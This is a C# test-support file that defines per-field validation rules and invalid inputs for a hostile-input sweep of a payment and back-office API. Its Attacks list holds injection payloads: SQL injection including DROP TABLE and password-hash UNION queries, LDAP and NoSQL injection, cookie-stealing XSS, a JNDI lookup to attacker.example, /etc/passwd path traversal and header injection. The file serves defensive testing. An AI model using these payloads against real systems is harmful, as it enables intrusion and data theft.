using System.Text.Json;
using OneGate.Tests.Support;

namespace OneGate.Tests.Hostile;

/// <summary>A raw JSON value (written into the body as is, so it may be a literal JSON cannot hold) and what it is.</summary>
public sealed record BadValue(string Label, string Json);

/// <summary>
/// A body field's valid value for the base request and the values that api.md makes invalid for it. Which fields
/// exist, and their JSON types, come from the OpenAPI documents; what is valid is the contract's knowledge and is
/// written down here, by field name (a new field of a known name is swept at once; an unknown one gets the
/// type-level cases and fails the test if it accepts them).
/// </summary>
/// <param name="Base">The valid raw JSON for the base body; null leaves the field out of it.</param>
/// <param name="Optional">api.md marks it optional (<c>?</c>): leaving it out or sending null is valid input.</param>
/// <param name="Injections">Whether the attack strings are invalid here (identifiers, enums, amounts). Free text
/// (merchant, description, reason) takes any printable text by contract: an injection string there is valid input,
/// stored literally, so it is not a bad-input case.</param>
public sealed record FieldRule(Func<string>? Base, bool Optional, IReadOnlyList<BadValue> Invalid, bool Injections);

public static class ContractRules
{
    private static string Quote(string text) => JsonSerializer.Serialize(text);

    private static BadValue Text(string label, string text) => new(label, Quote(text));

    /// <summary>Attack strings: SQL, LDAP, NoSQL, script/template, path traversal, header injection, unicode tricks.</summary>
    public static readonly IReadOnlyList<string> Attacks =
    [
        "' OR '1'='1",
        "1; DROP TABLE accounts; --",
        "\" OR 1=1 --",
        "x' UNION SELECT password_hash FROM users --",
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "{\"$gt\": \"\"}",
        "<script>alert(1)</script>",
        "javascript:alert(document.cookie)",
        "{{7*7}}${7*7}",
        "${jndi:ldap://attacker.example/a}",
        "../../../../etc/passwd",
        "..%2F..%2Fetc%2Fpasswd",
        "x\r\nX-Injected: yes",
        "\u202Egnp.exe",
        "adm\u200Bin",
        "ａｄｍｉｎ",
        "\uFEFFadmin",
        "Z\u0351\u0360\u035A\u0328",
        "\u0000",
    ];

    private static readonly string[] AmountBad =
        ["0", "0.00", "-1", "-10000.00", "0.001", "10000.005", "1e20", "10000000000000.00", "1e400", "\"NaN\"", "\"Infinity\"",
         "\"-Infinity\"", "\"12,50\"", "\"\"", "true", "{}", "[]", "\"0x2710\""];

    private static readonly FieldRule Amount = new(() => "10000.00", false, AmountBad.Select(a => new BadValue("amount " + a, a)).ToList(), true);

    private static FieldRule FreeText(string sample, int max, bool optional) => new(() => Quote(sample), optional,
    [
        Text($"{max + 1} chars", new string('x', max + 1)),
        Text("10,000 chars", new string('x', 10_000)),
        Text("NUL", "a\u0000b"),
        Text("escape sequence", "\u001b[2J"),
        Text("line break", "a\r\nb"),
        .. optional ? Array.Empty<BadValue>() : [Text("empty", ""), Text("blank", "   ")],
    ], Injections: false);

    private static FieldRule Identifier(Func<string> sample, int max, params BadValue[] more) => new(sample, false,
    [
        Text("empty", ""),
        Text("blank", "   "),
        Text($"{max + 1} chars", new string('a', max + 1)),
        Text("10,000 chars", new string('a', 10_000)),
        .. more,
    ], Injections: true);

    /// <summary>The sweep's fixed inputs: users, transaction ids (filled in by the test's set-up).</summary>
    public sealed class Inputs
    {
        public required string RecipientUsername { get; init; }

        public required string OwnPaymentId { get; init; }

        public required string LoginUsername { get; init; }

        public required string LoginPassword { get; init; }

        /// <summary>An operator that logs in only in the control of operator login (so its current TOTP code is unused then).</summary>
        public required TestOperator LoginOperator { get; init; }
    }

    public static Dictionary<string, FieldRule> For(ApiOperation operation, Inputs inputs)
    {
        var rules = new Dictionary<string, FieldRule>
        {
            ["amount"] = operation.Path == "/api/payments/refund" ? Amount with { Optional = true } : Amount,
            ["merchant"] = FreeText("Warung Sate Pak Budi", 100, optional: false),
            ["description"] = FreeText("hostile sweep", 255, optional: true),
            ["externalReference"] = FreeText("ORDER-1", 100, optional: true),
            ["reason"] = FreeText("changed my mind", 255, optional: true),
            ["paymentMethod"] = new(() => Quote("GOPAY"), false,
                [Text("lower case", "gopay"), Text("unknown", "BITCOIN"), Text("empty", ""), Text("padded", " GOPAY"), new("number", "1")], true),
            ["toUsername"] = Identifier(() => Quote(inputs.RecipientUsername), 50, Text("too short", "ab"), Text("not a username", "bad name!")),
            // Base transfers go by username: any toPhone as well is "both given", and toPhone alone must be a mobile number.
            ["toPhone"] = new(null, true, [Text("besides toUsername", "081234567890"), Text("letters", "08abc")], true),
            ["transactionId"] = Identifier(() => Quote(inputs.OwnPaymentId), 50),
            ["phone"] = Identifier(() => Quote(FreshPhone()), 20, Text("landline", "+62215550100"), Text("foreign", "+15555550100"),
                Text("too short", "0812"), Text("too long", "08123456789012345")),
        };

        switch (operation.Path)
        {
            case "/api/auth/register":
                rules["username"] = Identifier(() => Quote("h_" + Guid.NewGuid().ToString("N")[..16]), 50,
                    Text("too short", "ab"), Text("punctuation", "bad!name"), Text("space", "bad name"), Text("non-ASCII", "ünïcödé"));
                rules["email"] = Identifier(() => Quote($"h{Guid.NewGuid():N}@example.com"), 255,
                    Text("no at", "no-at.example.com"), Text("no domain dot", "a@b"), Text("two ats", "a@b@c.com"), Text("space", "a b@c.com"));
                rules["password"] = new(() => Quote("correct horse battery"), false,
                    [Text("empty", ""), Text("7 chars", "1234567"), Text("129 chars", new string('p', 129)), Text("10,000 chars", new string('p', 10_000))], false);
                break;
            case "/api/auth/login":
                // Anything that passes validation is a failed login that counts against the per-IP throttle the whole
                // suite shares; credential-shaped attacks are therefore separate, few, and counted (see the sweep).
                rules["username"] = new(() => Quote(inputs.LoginUsername), false,
                    [Text("empty", ""), Text("blank", "   "), Text("256 chars", new string('a', 256)), Text("NUL", "a\u0000b"), Text("escape sequence", "a\u001bb")], false);
                rules["password"] = new(() => Quote(inputs.LoginPassword), false,
                    [Text("empty", ""), Text("129 chars", new string('p', 129))], false);
                break;
            case "/api/auth/refresh":
                // A well-formed unknown token: every case is refused (401 or 400) and nothing rotates.
                rules["refreshToken"] = new(() => Quote(Convert.ToBase64String(Guid.NewGuid().ToByteArray()).TrimEnd('=')), false,
                    [Text("empty", ""), Text("blank", "   "), Text("513 chars", new string('r', 513))], true);
                break;
            case "/api/auth/logout":
                // Optional, and an unknown token is ignored by contract: only a wrong JSON type is invalid.
                rules["refreshToken"] = new(null, true, [], false);
                break;
        }

        if (operation.Path.StartsWith("/api/admin/", StringComparison.Ordinal))
        {
            AddBackOffice(rules, operation.Path, inputs);
        }

        return rules;
    }

    private static readonly string[] RoleNames = ["SUPPORT", "OPERATIONS", "COMPLIANCE", "ADMIN"];

    private static readonly FieldRule Roles = new(() => """["SUPPORT"]""", false,
    [
        new("empty array", "[]"), new("unknown role", """["BITCOIN"]"""), new("lower case", """["support"]"""),
        new("padded", """[" SUPPORT"]"""), new("repeated", """["SUPPORT","SUPPORT"]"""), new("null element", "[null]"),
        new("number element", "[1]"), new("nested array", """[["SUPPORT"]]"""), new("a string, not an array", Quote("SUPPORT")),
        new("object", """{"0":"SUPPORT"}"""), new("every role twice", JsonSerializer.Serialize(RoleNames.Concat(RoleNames))),
        new("10,000 roles", JsonSerializer.Serialize(Enumerable.Repeat("SUPPORT", 10_000))),
        .. Attacks.Select(a => new BadValue("role " + a, JsonSerializer.Serialize(new[] { a }))),
    ], Injections: false);

    /// <summary>
    /// The back office's fields (docs/backoffice.md): operator login (password and 6-digit TOTP code), operators'
    /// usernames, passwords and roles, and the reasons and notes operators give (Auth's at most 500 characters,
    /// required to deactivate; Payment's required, 1 to 1000).
    /// </summary>
    private static void AddBackOffice(Dictionary<string, FieldRule> rules, string path, Inputs inputs)
    {
        switch (path)
        {
            case "/api/admin/auth/login":
                // Like users' login: values that pass validation are failed logins counted by the shared per-IP throttle.
                var op = inputs.LoginOperator;
                rules["username"] = new(() => Quote(op.Username), false,
                    [Text("empty", ""), Text("blank", "   "), Text("51 chars", new string('a', 51)), Text("NUL", "a\u0000b"), Text("escape sequence", "a\u001bb")], false);
                rules["password"] = new(() => Quote(op.Password), false, [Text("empty", ""), Text("129 chars", new string('p', 129))], false);
                rules["code"] = new(() => Quote(TotpClock.Code(op.TotpSecret, TotpClock.CurrentStep)), false,
                [
                    Text("empty", ""), Text("5 digits", "12345"), Text("7 digits", "1234567"), Text("letter", "12a456"), Text("padded", " 123456"),
                    Text("full-width digits", "１２３４５６"), Text("Arabic-Indic digits", "١٢٣٤٥٦"), Text("signed", "+12345"), new("number", "123456"),
                ], true);
                break;
            case "/api/admin/operators":
                rules["username"] = Identifier(() => Quote("sweep-" + Guid.NewGuid().ToString("N")[..16]), 50,
                    Text("too short", "ab"), Text("digit first", "1abc"), Text("punctuation", "bad!name"), Text("space", "bad name"), Text("non-ASCII", "ünïcödé"));
                rules["password"] = new(() => Quote(Operators.Password), false,
                [
                    Text("empty", ""), Text("11 chars", new string('p', 11)), Text("129 chars", new string('p', 129)),
                    Text("10,000 chars", new string('p', 10_000)), Text("NUL", "operator pass\u0000word"),
                ], false);
                rules["roles"] = Roles;
                break;
            case var p when p.StartsWith("/api/admin/operators/", StringComparison.Ordinal):
                rules["roles"] = Roles;
                rules["reason"] = FreeText("sweep", 500, optional: !p.EndsWith("/deactivate", StringComparison.Ordinal));
                break;
            case "/api/admin/regulators":
                // Code and name are unique: the base (sent once, as the control) creates a fresh service.
                rules["code"] = Identifier(() => Quote("SWEEP_" + Guid.NewGuid().ToString("N")[..16].ToUpperInvariant()), 50,
                    Text("lower case", "sweep_x"), Text("digit first", "1ABC"), Text("space", "A B"), Text("one character", "A"), Text("hyphen", "A-B"));
                rules["name"] = new(() => Quote("Sweep regulator " + Guid.NewGuid().ToString("N")), false, FreeText("x", 100, optional: false).Invalid, false);
                rules["description"] = FreeText("sweep", 500, optional: true);
                rules["contactEmail"] = new(null, true,
                    [Text("no at", "regulator.example"), Text("two ats", "a@b@c.example"), Text("space", "a b@c.example"), Text("256 chars", new string('a', 246) + "@c.example"),
                     Text("NUL", "a\u0000@c.example")], false);
                rules["permissions"] = Permissions;
                rules["rateLimits"] = RateLimits;
                rules["reason"] = FreeText("sweep", ActionReasonMax, optional: true);
                break;
            case var p when p.StartsWith("/api/admin/regulators/", StringComparison.Ordinal):
                rules["name"] = FreeText("sweep key", 100, optional: false);
                rules["permissions"] = Permissions with { Base = null, Optional = true };
                rules["rateLimits"] = RateLimits with { Base = null, Optional = true };
                rules["expiresInDays"] = new(null, true, [new("zero", "0"), new("negative", "-1"), new("over ten years", "3651"), new("fraction", "1.5"),
                    new("boolean", "true"), new("huge", "1e20")], false);
                rules["reason"] = FreeText("sweep", ActionReasonMax, optional: true);
                break;
            case var p when p.StartsWith("/api/admin/keys/", StringComparison.Ordinal) || p.StartsWith("/api/admin/dead-letters", StringComparison.Ordinal):
                rules["rateLimits"] = RateLimits;
                rules["reason"] = FreeText("sweep", ActionReasonMax, optional: !p.EndsWith("/revoke", StringComparison.Ordinal));
                break;
            default:
                rules["reason"] = FreeText("sweep", ActionReasonMax, optional: false);
                rules["note"] = FreeText("settled by bank transfer", ActionReasonMax, optional: false);
                break;
        }
    }

    /// <summary>A regulator service's (or key's) permissions: one or more of the two; a repeated one is accepted as a set.</summary>
    private static readonly FieldRule Permissions = new(() => """["READ_REPORTS"]""", false,
    [
        new("empty array", "[]"), new("unknown", """["READ_EVERYTHING"]"""), new("lower case", """["read_reports"]"""), new("null element", "[null]"),
        new("number element", "[1]"), new("nested array", """[["READ_REPORTS"]]"""), new("a string, not an array", Quote("READ_REPORTS")),
        new("object", """{"0":"READ_REPORTS"}"""), .. Attacks.Select(a => new BadValue("permission " + a, JsonSerializer.Serialize(new[] { a }))),
    ], Injections: false);

    /// <summary>Rate limits: at least one window of 1 to 1,000,000, a longer window allowing no fewer than a shorter one.</summary>
    private static readonly FieldRule RateLimits = new(() => """{"perMinute":10}""", false,
    [
        new("no window", "{}"), new("zero", """{"perMinute":0}"""), new("negative", """{"perHour":-1}"""), new("over a million", """{"perDay":1000001}"""),
        new("hour below minute", """{"perMinute":10,"perHour":5}"""), new("fraction", """{"perMinute":1.5}"""), new("boolean", """{"perMinute":true}"""),
        new("overflow", """{"perMinute":2147483648}"""), new("array", "[10]"), new("string", Quote("10/min")),
    ], Injections: false);

    /// <summary>Payment's back-office reasons and notes: required, 1 to 1000 characters.</summary>
    private const int ActionReasonMax = 1000;

    private static string FreshPhone() => "0812" + Random.Shared.NextInt64(10_000_000, 99_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);

    /// <summary>Invalid values of query and path parameters, by name (query values are sent URL-encoded).</summary>
    public static IReadOnlyList<string> InvalidParameterValues(string name) => name switch
    {
        "type" => ["BITCOIN", "TOPUP,PAYMENT", .. Attacks],
        "status" => ["DONE", "success ", .. Attacks],
        "from" or "to" => ["yesterday", "2026-13-45T00:00:00Z", "2026-02-30", "99999-01-01", "1e20", new string('9', 2000), .. Attacks],
        "limit" => ["0", "101", "-1", "abc", "1e2", "10.5", " 5", "99999999999999999999", .. Attacks],
        "cursor" => ["garbage!", "AAAA", Convert.ToBase64String("1.2.3"u8), Convert.ToBase64String("-5.-1"u8), new string('A', 101), .. Attacks],
        "date" => ["2026-02-30", "24-11-2026", "2026/11/24", "today", "", .. Attacks],
        "transactionId" => [new string('T', 51), new string('T', 2000), .. Attacks],
        "accountId" => [Guid.Empty.ToString(), "not-a-guid", Guid.NewGuid().ToString("N") + "0", "1", .. Attacks],
        "userId" or "operatorId" => ["0", "-1", "2147483648", "1.5", "1e3", "abc", "0x1", .. Attacks],
        "username" => ["ab", "12345", "UPPER CASE", new string('a', 51), .. Attacks],
        "email" => ["no-at-sign", "a@b", "two@@example.com", new string('a', 250) + "@example.com", .. Attacks],
        "phone" => ["12345", "+6212", "0812-3456-7890x", .. Attacks],
        "actorType" => ["ROBOT", "user", .. Attacks],
        "action" or "targetType" or "actorId" or "targetId" => [" ", new string('a', 101), .. Attacks],
        // Query filters of the access logs and path values of Transaction's back office (a well-formed unknown id is a 404 there, valid in a filter).
        "serviceId" or "deadLetterId" => ["0", "-1", "2147483648", "99999999999999999999", "1.5", "1e3", "abc", "0x1", .. Attacks],
        "keyId" => ["not-a-uuid", Guid.NewGuid().ToString("N") + "0", "{" + Guid.NewGuid() + "}", "1", .. Attacks],
        _ => [.. Attacks],
    };
}
